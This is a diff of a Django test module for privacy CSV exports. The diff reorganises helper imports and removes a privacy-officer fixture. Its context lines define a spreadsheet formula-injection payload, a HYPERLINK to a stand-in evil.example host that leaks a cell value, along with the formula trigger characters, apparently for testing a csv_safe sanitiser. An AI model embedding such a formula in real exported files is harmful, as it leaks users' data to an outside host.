@@ -6,35 +6,25 @@ import io
 import json
 import re
 import tempfile
-import uuid
 import zipfile
 
 import pytest
 from django.conf import settings
 from django.contrib.admin.models import LogEntry
-from django.contrib.auth.models import Group, User
+from django.contrib.auth.models import Group
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone, translation
 
 from inquiries.models import Inquiry, InquiryView
-from inquiries.tests.helpers import CANARY_MESSAGE, CANARY_NAME, CANARY_PHONE, make_inquiry
 from privacy.exports import CSV_COLUMNS, PRINT_CSS, csv_safe, print_css_source
-from privacy.tests.helpers import OTHER_PHONE, act, make_request
+from testkit.inquiries import CANARY_MESSAGE, CANARY_NAME, CANARY_PHONE, make_inquiry
+from testkit.privacy import OTHER_PHONE, act, make_request
 
 pytestmark = pytest.mark.django_db
 
 INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
-
-@pytest.fixture
-def privacy_officer(verified_client_factory):
-    user = User.objects.create_user(
-        f"officer-{uuid.uuid4().hex[:6]}", password="correct horse battery staple", is_staff=True
-    )
-    user.groups.add(Group.objects.get(name="Privacy officers"))
-    return verified_client_factory(user)
 
 
 @pytest.fixture
